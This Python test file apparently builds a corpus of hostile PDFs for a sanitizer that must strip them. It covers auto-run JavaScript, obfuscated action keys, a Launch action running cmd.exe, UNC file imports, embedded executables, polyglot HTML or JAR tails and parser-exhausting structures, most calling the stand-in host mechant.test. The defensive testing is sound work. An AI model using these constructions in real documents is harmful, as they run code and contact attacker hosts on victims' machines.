"""PDFs in which something acts: they come out without it."""

import struct

from tests.core.files.corpus.making import archive, jpeg_with_words
from tests.core.files.corpus.making_pdf import (
    ADDRESS,
    ATTACHED,
    DRAWN,
    FONT,
    SCRIPT,
    annotation,
    pdf,
    stream,
    with_picture,
)
from tests.core.files.corpus.shelf import PDFS, sent


@sent(PDFS)
def script_as_it_opens() -> bytes:
    return pdf(f"/OpenAction {SCRIPT}")


@sent(PDFS)
def script_in_the_name_tree() -> bytes:
    return pdf(f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>")


@sent(PDFS)
def script_as_it_closes() -> bytes:
    return pdf(f"/AA << /WC {SCRIPT} /WP {SCRIPT} >>")


@sent(PDFS)
def script_of_a_page() -> bytes:
    return pdf("", f"/AA << /O {SCRIPT} /C {SCRIPT} >>")


@sent(PDFS)
def script_under_a_name_in_disguise() -> bytes:
    return pdf("/OpenAction << /S /J#61v#61Script /J#53 (app.alert\\('mechant.test'\\)) >>")


@sent(PDFS)
def key_in_disguise() -> bytes:
    return pdf(f"/Open#41ction {SCRIPT} /#41#41 << /WC {SCRIPT} >>")


@sent(PDFS)
def script_in_a_stream() -> bytes:
    return pdf(
        "/OpenAction << /S /JavaScript /JS 6 0 R >>", "", stream(b"app.launchURL('http://mechant.test/')", pack=True)
    )


@sent(PDFS)
def script_in_a_bookmark() -> bytes:
    return pdf(
        "/Outlines 6 0 R",
        "",
        b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
        f"<< /Title (Ici) /Parent 6 0 R /A {SCRIPT} >>".encode(),
    )


@sent(PDFS)
def script_in_an_object_stream() -> bytes:
    inner = [
        (1, f"<< /Type /Catalog /Pages 2 0 R /OpenAction {SCRIPT} >>".encode()),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (
            3,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        ),
        (5, FONT),
    ]
    heads, bodies = [], b""
    for number, body in inner:
        heads.append(b"%d %d" % (number, len(bodies)))
        bodies += body + b"\n"
    head = b" ".join(heads) + b" "
    out = bytearray(b"%PDF-1.5\n")
    places = {}
    for number, body in (
        (4, stream(DRAWN)),
        (6, stream(head + bodies, f"/Type /ObjStm /N {len(inner)} /First {len(head)}", pack=True)),
    ):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places[7] = len(out)
    compressed = {number: index for index, (number, _body) in enumerate(inner)}
    table = b""
    for number in range(8):
        if number in compressed:
            table += struct.pack(">BIH", 2, 6, compressed[number])
        else:
            table += struct.pack(">BIH", int(number in places), places.get(number, 0), 0)
    out += b"7 0 obj\n%s\nendobj\n" % stream(table, "/Type /XRef /Size 8 /Root 1 0 R /W [1 4 2]", pack=True)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % places[7])


@sent(PDFS)
def program_as_it_opens() -> bytes:
    return pdf("/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c start http://mechant.test) >> >>")


@sent(PDFS)
def form_that_sends_itself() -> bytes:
    return annotation(
        "/Subtype /Widget /FT /Btn /T (a) /A << /S /SubmitForm /F << /FS /URL /F (http://mechant.test) >> >>",
        catalog="/AcroForm << /Fields [] >>",
    )


@sent(PDFS)
def form_with_scripts_in_its_fields() -> bytes:
    return annotation(
        f"/Subtype /Widget /FT /Tx /T (a) /V (mechant.test) /AA << /K {SCRIPT} /F {SCRIPT} /C {SCRIPT} >>",
        catalog=f"/AcroForm << /Fields [] /CO [] /DR << >> >> /OpenAction {SCRIPT}",
    )


@sent(PDFS)
def form_that_reads_a_file() -> bytes:
    return annotation("/Subtype /Widget /FT /Btn /T (a) /A << /S /ImportData /F (\\\\\\\\mechant.test\\\\a.fdf) >>")


@sent(PDFS)
def form_of_xml() -> bytes:
    return pdf(
        "/AcroForm << /Fields [] /XFA 6 0 R >>",
        "",
        stream(
            b"<xdp><script contentType='application/x-javascript'>xfa.host.gotoURL('http://mechant.test')</script></xdp>"
        ),
    )


@sent(PDFS)
def link_to_a_site() -> bytes:
    return annotation(f"/Subtype /Link /A {ADDRESS}")


@sent(PDFS)
def link_that_runs_a_script() -> bytes:
    return annotation("/Subtype /Link /A << /S /URI /URI (javascript:fetch\\('//mechant.test'\\)) >>")


@sent(PDFS)
def link_to_another_document() -> bytes:
    return annotation("/Subtype /Link /A << /S /GoToR /F (\\\\\\\\mechant.test\\\\a.pdf) /D [0 /Fit] >>")


@sent(PDFS)
def link_into_an_embedded_document() -> bytes:
    return annotation("/Subtype /Link /A << /S /GoToE /T << /R /C /N (mechant.test) >> /D [0 /Fit] >>")


@sent(PDFS)
def chain_of_actions() -> bytes:
    return annotation(f"/Subtype /Link /A << /S /Named /N /Print /Next [{SCRIPT} {ADDRESS}] >>")


@sent(PDFS)
def attached_program() -> bytes:
    return pdf(
        f"/Names << /EmbeddedFiles << /Names [(a.exe) {ATTACHED}] >> >>",
        "",
        stream(b"MZ mechant.test", "/Type /EmbeddedFile"),
    )


@sent(PDFS)
def attached_to_a_pin() -> bytes:
    return annotation(f"/Subtype /FileAttachment /FS {ATTACHED}", stream(b"MZ mechant.test", "/Type /EmbeddedFile"))


@sent(PDFS)
def associated_file() -> bytes:
    return pdf(f"/AF [{ATTACHED}]", f"/AF [{ATTACHED}]", stream(b"MZ mechant.test", "/Type /EmbeddedFile"))


@sent(PDFS)
def collection_of_files() -> bytes:
    return pdf(
        f"/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(a) {ATTACHED}] >> >>",
        "",
        stream(b"mechant.test", "/Type /EmbeddedFile"),
    )


@sent(PDFS)
def flash() -> bytes:
    return annotation(
        "/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) 6 0 R] >> >> /RichMediaSettings << >>",
        stream(b"FWS mechant.test", "/Type /EmbeddedFile"),
    )


@sent(PDFS)
def three_dimensions() -> bytes:
    return annotation(
        "/Subtype /3D /3DD 6 0 R /3DA << /A /PO >>",
        stream(b"U3D", "/Type /3D /Subtype /U3D /OnInstantiate 7 0 R"),
        stream(b"host.app.launchURL('http://mechant.test')"),
    )


@sent(PDFS)
def film() -> bytes:
    return annotation("/Subtype /Movie /Movie << /F (http://mechant.test/a.avi) >> /A true")


@sent(PDFS)
def sound() -> bytes:
    return annotation(
        "/Subtype /Sound /Sound 6 0 R /A << /S /Sound /Sound 6 0 R >>", stream(b"mechant.test", "/Type /Sound /R 8000")
    )


@sent(PDFS)
def rendition() -> bytes:
    return annotation(
        "/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (http://mechant.test) >> >>"
        " /JS (app.alert\\(1\\)) >>"
    )


@sent(PDFS)
def appearance_with_a_script() -> bytes:
    return annotation(
        f"/Subtype /Stamp /AP << /N 6 0 R >> /A {SCRIPT}",
        stream(b"0 0 20 20 re f", "/Type /XObject /Subtype /Form /BBox [0 0 20 20] /PieceInfo << /M (mechant.test) >>"),
    )


@sent(PDFS)
def metadata_with_a_script() -> bytes:
    return pdf(
        "/Metadata 6 0 R",
        "/Metadata 6 0 R",
        stream(b"<x:xmpmeta><script src='http://mechant.test'/></x:xmpmeta>", "/Type /Metadata /Subtype /XML"),
        trailer="/Info << /Title (<script src=//mechant.test>) /Author (mechant.test) >>",
    )


@sent(PDFS)
def notes_of_an_application() -> bytes:
    return pdf("/PieceInfo << /A << /Private (mechant.test) >> >>", "/PieceInfo << /A << /Private (mechant.test) >> >>")


@sent(PDFS)
def layers_that_change() -> bytes:
    return pdf(
        "/OCProperties << /OCGs [6 0 R] /D << /AS [<< /Event /View /OCGs [6 0 R] /Category [/View] >>] >> >>",
        "",
        b"<< /Type /OCG /Name (mechant.test) >>",
        content=stream(b"/OC /A BDC " + DRAWN + b" EMC"),
        resources="/Font << /F1 5 0 R >> /Properties << /A 6 0 R >>",
    )


@sent(PDFS)
def rights_and_signature() -> bytes:
    return pdf(
        "/Perms << /UR3 6 0 R >> /AcroForm << /SigFlags 3 /Fields [] >> /DSS << >> /Legal << /JavaScriptActions 1 >>",
        "",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /Location (mechant.test) >>",
    )


@sent(PDFS)
def requirement_with_a_script() -> bytes:
    return pdf(
        f"/Requirements [<< /S /EnableJavaScripts /RH << /S /JS /Script {SCRIPT} >> >>] /URI << /Base (http://mechant.test) >>"
    )


@sent(PDFS)
def thumbnail_threads_and_web_capture() -> bytes:
    return pdf(
        "/Threads [<< /I << /Title (mechant.test) >> >>] /SpiderInfo << /V 1.0 >>",
        "/Thumb 6 0 R /B [] /PresSteps << >> /Trans << /S /Fly >> /Dur 1",
        stream(b"mechant.test", "/Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8"),
    )


@sent(PDFS)
def structure_with_a_script() -> bytes:
    return pdf(
        f"/StructTreeRoot << /Type /StructTreeRoot /K << /S /Link /A {SCRIPT} >> >> /MarkInfo << /Marked true >>"
    )


@sent(PDFS)
def added_in_a_second_saving() -> bytes:
    first = pdf()
    place = len(first)
    second = f"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {SCRIPT} >>\nendobj\n".encode()
    start = place + len(second)
    return (
        first
        + second
        + b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (place, first.rindex(b"xref\n0"), start)
    )


@sent(PDFS)
def table_in_the_wrong_place() -> bytes:
    return pdf(f"/OpenAction {SCRIPT}").replace(b"startxref\n", b"startxref\n9")


@sent(PDFS)
def table_that_points_to_itself() -> bytes:
    plain = pdf(f"/OpenAction {SCRIPT}")
    return pdf(f"/OpenAction {SCRIPT}", trailer=f"/Prev {plain.rindex(b'xref' + bytes([10]) + b'0')}")


@sent(PDFS)
def drawing_in_postscript() -> bytes:
    return pdf(
        "",
        "",
        stream(b"(mechant.test) run", "/Type /XObject /Subtype /PS"),
        content=stream(b"/X Do " + DRAWN),
        resources="/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
    )


@sent(PDFS)
def drawing_from_elsewhere() -> bytes:
    return pdf(
        "",
        "",
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (http://mechant.test/a.pdf) /Page 0 >>"
        b" /OPI << /2.0 << /F (mechant.test) >> >> /Length 0 >>\nstream\n\nendstream",
        content=stream(b"/X Do " + DRAWN),
        resources="/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
    )


@sent(PDFS)
def stream_of_another_file() -> bytes:
    return pdf(
        "",
        "",
        content=stream(DRAWN, "/F << /FS /URL /F (http://mechant.test/a) >> /FFilter /FlateDecode /FDecodeParms << >>"),
    )


@sent(PDFS)
def typeface_with_a_script_in_its_matrix() -> bytes:
    return pdf(
        "",
        "",
        content=stream(b"BT /F2 9 Tf (a) Tj ET " + DRAWN),
        resources="/Font << /F1 5 0 R /F2 << /Type /Font /Subtype /Type1 /BaseFont /Evil"
        " /FontMatrix [0.001 0 0 0.001 0 (1\\); fetch\\('//mechant.test'\\)//)] >> >>",
    )


@sent(PDFS)
def typeface_that_draws_itself() -> bytes:
    return pdf(
        "",
        "",
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9]"
        b" /Encoding << /Differences [97 /a] >> /CharProcs << /a 7 0 R >> /Resources << /Font << /F2 6 0 R >> >>"
        b" /A << /S /JavaScript /JS (mechant.test) >> >>",
        stream(b"9 0 d0 BT /F2 9 Tf (a) Tj ET"),
        content=stream(b"BT /F2 9 Tf (a) Tj ET " + DRAWN),
        resources="/Font << /F1 5 0 R /F2 6 0 R >>",
    )


@sent(PDFS)
def form_that_holds_itself() -> bytes:
    return pdf(
        "",
        "",
        stream(
            b"/X Do",
            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /A {SCRIPT}",
        ),
        resources="/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
    )


@sent(PDFS)
def pdf_then_page_of_the_web() -> bytes:
    return pdf() + b"<html><script src='http://mechant.test'></script></html>"


@sent(PDFS)
def pdf_then_archive() -> bytes:
    return pdf() + archive({"META-INF/MANIFEST.MF": b"Main-Class: Mechant", "a.class": b"mechant.test"})


@sent(PDFS)
def web_page_in_a_comment() -> bytes:
    return pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<script>fetch('//mechant.test')</script>", 1)


@sent(PDFS)
def page_that_goes_on_without_end() -> bytes:
    return pdf("", "", resources="", kids="[3 0 R]").replace(b"/Parent 2 0 R", b"/Parent 3 0 R")


@sent(PDFS)
def half_a_million_brackets() -> bytes:
    return pdf("", "", b"[" * 500_000, resources="/Font << /F1 5 0 R >> /ColorSpace << /A 6 0 R >>").replace(
        b"/Type /Catalog", b"/Type /Catalog /A 6 0 R"
    )


@sent(PDFS)
def photograph_with_a_page_behind_it() -> bytes:
    photo = jpeg_with_words() + b"<script>mechant.test</script>"
    return with_picture("/Width 24 /Height 24 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", photo)
